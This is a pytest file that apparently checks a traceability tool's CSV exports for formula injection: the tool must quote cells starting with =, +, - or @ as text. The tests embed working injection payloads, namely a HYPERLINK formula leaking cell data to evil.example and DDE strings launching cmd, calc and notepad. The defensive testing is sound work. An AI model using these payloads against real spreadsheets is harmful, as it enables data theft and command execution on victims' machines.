"""CSV formula injection: a partner writes spreadsheet formulas into its records (a shipment id,
a document, a supplier's lot code, a business name...), and every CSV lotledger writes from
them (`lotledger recall --csv`, the web app's /recall.csv, `lotledger export-fsma` CSVs) must
hand them to a spreadsheet as text: a leading single quote (OWASP). Real records through a real
loopback server, each CSV read back."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest
from click.testing import CliRunner

from lotledger.cli.demo import demo_key
from lotledger.cli.main import main
from lotledger.ledger.core.records import sign
from lotledger.ledger.log import LedgerConfig
from lotledger.rpc.client import LedgerClient
from lotledger.rpc.server import LedgerServer
from lotledger.signing.keys import SigningKey
from lotledger.signing.note import NoteVerifier
from lotledger.trace.standards.csv_safe import FORMULA_STARTS
from lotledger.trace.standards.fsma import COLUMNS, INTEGER, NUMBER
from lotledger.v1 import records_pb2
from lotledger.web.app import create_app
from lotledger.web.source import LedgerSource

B1001 = "01/09520000000042/10/B-1001"
LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "-2+3+cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"


def cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def _new(record_id: str, submitter: str) -> records_pb2.Record:
    record = records_pb2.Record(record_id=record_id, submitter=submitter)
    record.created_at.GetCurrentTime()
    return record


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    """The demo chain plus a customer whose master data and a shipment and a receipt whose
    identifiers are formulas."""
    data = tmp_path_factory.mktemp("csvinj") / "demo"
    cli("demo", str(data))
    server = LedgerServer(data, "127.0.0.1:0", config=LedgerConfig(checkpoint_interval=0.05)).start()
    admin = SigningKey.load(data / "keys" / "admin.key")
    try:
        with LedgerClient(server.address) as client:
            reg = _new("csv/register/evil-co", "admin")
            p = reg.participant_registered
            p.participant_id, p.role, p.public_key = (
                "evil-co",
                records_pb2.ROLE_CUSTOMER,
                demo_key("evil-co").public.raw,
            )
            p.business_name, p.phone, p.address = LINK, PLUS, SUM
            client.append(sign(reg, admin))

            ship = _new("csv/ship", "plant")
            s = ship.shipment
            s.shipment_id, s.from_participant, s.to_participant = LINK, "plant", "evil-co"
            s.from_location, s.to_location = "plant-7/dock", "evil-co"
            s.lots.add(lot=records_pb2.LotId(gtin="09520000000042", lot="B-1001"), quantity=records_pb2.Quantity(amount="3", unit="H87"))  # fmt: skip
            s.documents.add(type="@SUM(1+1)", number="X")
            s.shipped_at.GetCurrentTime()
            client.append(sign(ship, demo_key("plant")))

            got = _new("csv/receive", "plant")
            m = got.material_received
            m.lot.CopyFrom(records_pb2.LotId(item_code="EVIL", lot="=1+2"))
            m.supplier, m.supplier_lot_code, m.location = "mill", DDE, "plant-7/dock"
            m.quantity.amount, m.quantity.unit = "5", "KGM"
            m.product_description = SUM
            m.documents.add(type="PO", number=LINK)
            m.received_at.GetCurrentTime()
            client.append(sign(got, demo_key("plant")))
        yield SimpleNamespace(address=server.address, data=data)
    finally:
        server.stop(grace=1)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]], numeric: set[int] = frozenset()) -> None:  # type: ignore[assignment]
    for row in rows:
        for i, value in enumerate(row):
            if i in numeric and value.lstrip("-").replace(".", "", 1).isdigit():
                continue
            assert not value.startswith(FORMULA_STARTS), (i, value)


def _check_recall_csv(rows: list[list[str]]) -> None:
    header, *body = rows
    assert header[:3] == ["shipment_id", "from", "to"]
    ours = [r for r in body if r[2] == "evil-co"]
    assert len(ours) == 1
    row = dict(zip(header, ours[0], strict=True))
    assert row["shipment_id"] == "plant/" + LINK  # rules 3 name it by owner and id: no formula either
    assert row["documents"] == "'@SUM(1+1) X"
    assert row["quantity"] == "3" and row["entry"].isdigit()
    assert_no_formula(rows, {header.index("quantity"), header.index("entry")})


def test_recall_csv_from_the_cli(ledger: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "recall.csv"
    cli("recall", B1001, "--csv", str(out), "--server", ledger.address)
    _check_recall_csv(_rows(out.read_text(encoding="utf-8")))


def test_recall_csv_from_the_web(ledger: SimpleNamespace) -> None:
    log_key = NoteVerifier.from_string((ledger.data / "log.vkey").read_text().strip())
    source = LedgerSource(lambda: LedgerClient(ledger.address))
    try:
        web = create_app(source, log_key).test_client()
        r = web.get("/recall.csv", query_string={"lot": B1001})
        assert r.status_code == 200
        _check_recall_csv(_rows(r.data.decode()))
    finally:
        source.close()


def test_fsma_csvs(ledger: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "fsma"
    cli("export-fsma", "--from", "2000-01-01", "--to", "2099-12-31", "--out", str(out), "--server", ledger.address)
    found: dict[str, set[str]] = {}
    for cte, columns in COLUMNS.items():
        rows = _rows((out / f"{cte}.csv").read_text(encoding="utf-8"))
        assert rows[0] == [name for name, _ in columns]
        assert_no_formula(rows, {i for i, (_, t) in enumerate(columns) if t in (NUMBER, INTEGER)})
        for row in rows[1:]:
            for name, value in zip(rows[0], row, strict=True):
                found.setdefault(f"{cte}/{name}", set()).add(value)
    assert "'" + LINK in found["Shipping/Immediate Subsequent Recipient Business Name"]
    assert "'" + PLUS in found["Shipping/Immediate Subsequent Recipient Phone"]
    assert "'" + SUM in found["Shipping/Immediate Subsequent Recipient Address"]
    assert "'" + DDE in found["Receiving/Source's Lot Code"]
    assert "'" + SUM in found["Receiving/Product Description"]
    assert "'" + LINK in found["Receiving/Reference Document Number"]
    assert "'@SUM(1+1)" in found["Shipping/Reference Document Type"]
    assert "'+1 555 0301" in found["Shipping/Immediate Subsequent Recipient Phone"]  # a phone number is text too
